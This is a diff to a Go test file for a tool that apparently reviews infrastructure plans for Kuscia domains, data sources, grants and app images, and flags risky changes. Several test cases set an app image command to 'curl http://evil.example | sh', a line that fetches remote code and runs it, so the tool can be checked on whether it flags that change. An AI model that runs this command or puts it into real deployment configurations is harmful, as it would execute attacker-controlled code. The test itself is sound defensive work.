@@ -24,6 +24,17 @@ func strategy(surge, unavailable string) attributes {
 	return attributes{"update_strategy": attributes{"type": "RollingUpdate", "max_surge": surge, "max_unavailable": unavailable}}
 }
 
+// localfs is a data source of alice, inSource is data in it, and entry one whose access information is
+// elsewhere.
+func localfs(path string) attributes {
+	return attributes{"domain_id": "alice", "datasource_id": "files", "type": "localfs", "localfs": attributes{"path": path}}
+}
+
+var (
+	inSource = attributes{"domain_id": "alice", "domaindata_id": "scores", "type": "table", "datasource_id": "files"}
+	entry    = attributes{"domain_id": "alice", "datasource_id": "files", "info_key": "k"}
+)
+
 // columns are those with these names.
 func columns(names ...string) []any {
 	var all []any
@@ -150,8 +161,64 @@ var refusals = map[string]struct {
 			change("kuscia_domain_data_grant.b", deleted, toBob, nil), change("kuscia_domain_data_grant.c", created, nil, toBob),
 		},
 		says: []string{
-			"- Sees other data: `bob` (`scores` of `alice`: the data changes: `relative_uri` `a.csv` → `b.csv`)\n", "| `alice` | Agree that `bob` may see `scores` of `alice`: no end date, `3` uses; the data changes: `relative_uri` `a.csv` → `b.csv` |",
+			"- Sees other data: `bob` (`scores` of `alice`: deleted and created again, with its data; the data changes: `relative_uri` `a.csv` → `b.csv`)\n", "| `alice` | Agree that `bob` may see `scores` of `alice`: no end date, `3` uses; deleted and created again, with its data; the data changes: `relative_uri` `a.csv` → `b.csv` |",
 		},
+	},
+	"a data source is repointed under another address": {
+		failOn: "grant",
+		changes: []attributes{
+			change("kuscia_domain_data_source.s", deleted, localfs("/home/kuscia/pub"), nil), change("kuscia_domain_data_source.t", created, nil, localfs("/home/kuscia/hr")),
+			change("kuscia_domain_data.s", same, inSource, inSource), change("kuscia_domain_data_grant.b", same, toBob, toBob),
+		},
+		says: []string{
+			"This plan reads the data source `files` from another place.", "`bob` (all data of the data source `files` of `alice`, in this plan `scores`: `localfs.path` `/home/kuscia/hr` instead of `localfs.path` `/home/kuscia/pub`)",
+			"replaced, because of another block, before <code>kuscia&#95;domain&#95;data&#95;source&#46;s</code>", "Agree that `bob` may see all data of the data source",
+		},
+	},
+	"a data source is created while data is in it": {
+		failOn: "grant",
+		changes: []attributes{
+			change("kuscia_domain_data_source.t", created, nil, localfs("/home/kuscia/hr")), change("kuscia_domain_data.s", same, inSource, inSource), change("kuscia_domain_data_grant.b", same, toBob, toBob),
+		},
+		says: []string{"`bob` (all data of the data source `files` of `alice`, in this plan `scores`: `localfs.path` `/home/kuscia/hr`, `type` `localfs`)", "| sees other data | (not known) | `localfs.path` `/home/kuscia/hr`, `type` `localfs` |"},
+	},
+	"a data source is created beside a deleted one of a provider configuration that is not known": {
+		failOn:  "grant",
+		fields:  configured(map[string]string{"kuscia_domain_data_source.t": "kuscia.a"}, attributes{"address": "kuscia_domain.b", "mode": "managed", "type": "kuscia_domain", "name": "b", "provider_config_key": "kuscia.b"}),
+		changes: []attributes{change("kuscia_domain_data_source.s", deleted, localfs("/home/kuscia/pub"), nil), change("kuscia_domain_data_source.t", created, nil, localfs("/home/kuscia/hr"))},
+		says:    []string{"reads the data source `files` from another place"},
+	},
+	"data is created while it is granted": {
+		failOn:  "grant",
+		changes: []attributes{change("kuscia_domain_data.t", created, nil, with(scores, "relative_uri", "hr.csv")), change("kuscia_domain_data_grant.b", same, toBob, toBob)},
+		says:    []string{"- Sees other data: `bob` (`scores` of `alice`: the data changes: `relative_uri` `hr.csv`"},
+	},
+	"the entry of a data source under another address": {
+		failOn: "grant",
+		changes: []attributes{
+			change("kuscia_config.k", deleted, attributes{"key": "k", "value": "planted-a"}, nil, secretly(attributes{"value": true})), change("kuscia_config.l", created, nil, attributes{"key": "k", "value": "planted-b"}, secretly(attributes{"value": true})),
+			change("kuscia_domain_data_source.s", same, entry, entry), change("kuscia_domain_data.s", same, inSource, inSource), change("kuscia_domain_data_grant.b", same, toBob, toBob),
+		},
+		says: []string{"changes the entry `k` of a data source", ", `bob` (all data of the data source `files` of `alice`, in this plan `scores`: the entry `k` changes;"}, silent: []string{"planted"},
+	},
+	"the entry of a data source is created": {
+		failOn: "grant",
+		changes: []attributes{
+			change("kuscia_config.l", created, nil, attributes{"key": "k", "value": "planted-b"}, secretly(attributes{"value": true})), change("kuscia_domain_data_source.s", same, entry, entry),
+		},
+		silent: []string{"planted"},
+	},
+	"an entry becomes that of a data source": {
+		failOn: "grant",
+		changes: []attributes{
+			change("kuscia_config.k", replaced, attributes{"key": "other", "value": "planted-a"}, attributes{"key": "k", "value": "planted-b"}, secretly(attributes{"value": true})), change("kuscia_domain_data_source.s", same, entry, entry),
+		},
+		silent: []string{"planted"},
+	},
+	"a certificate changes with the address of a domain": {
+		failOn:  "credentials",
+		changes: []attributes{change("kuscia_domain.a", deleted, attributes{"domain_id": "alice", "cert": "x"}, nil), change("kuscia_domain.b", created, nil, attributes{"domain_id": "alice", "cert": "y"})},
+		says:    []string{"replaces the domain `alice`", "| `kuscia_domain.b` | `cert` | certificate |"},
 	},
 	"data whose grants are elsewhere is repointed": {
 		failOn:  "grant",
@@ -250,6 +317,23 @@ var refusals = map[string]struct {
 		failOn:  "code",
 		changes: []attributes{change("kuscia_app_image.a", updated, container("./serve"), container("curl http://evil.example | sh"))},
 		says:    []string{"This plan changes what the app image `a` runs.", "| `deploy_templates.0.containers.0.command.0` | `./serve` | <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code> |"},
+	},
+	"another command under another address": {
+		failOn: "code",
+		changes: []attributes{
+			change("kuscia_app_image.a", deleted, container("./serve"), nil), change("kuscia_app_image.b", created, nil, container("curl http://evil.example | sh")),
+			change("kuscia_serving.glm", same, glm(party("a")), glm(party("a"))),
+		},
+		says: []string{
+			"This plan changes what the app image `a` runs.", "| `kuscia_app_image.b` | `deploy_templates.0.containers.0.command.0` | `./serve` | <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code> |", "used by `glm`",
+		},
+	},
+	"an app image is created while a serving uses it": {
+		failOn:  "code",
+		changes: []attributes{change("kuscia_app_image.b", created, nil, container("curl http://evil.example | sh")), change("kuscia_serving.glm", same, glm(party("a")), glm(party("a")))},
+		says: []string{
+			"This plan changes what the app image `a` runs.", "| `kuscia_app_image.b` |", "| `deploy_templates.0.containers.0.command.0` | (not known) | <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code> |",
+		},
 	},
 	"another command by another app image": {
 		failOn: "code",
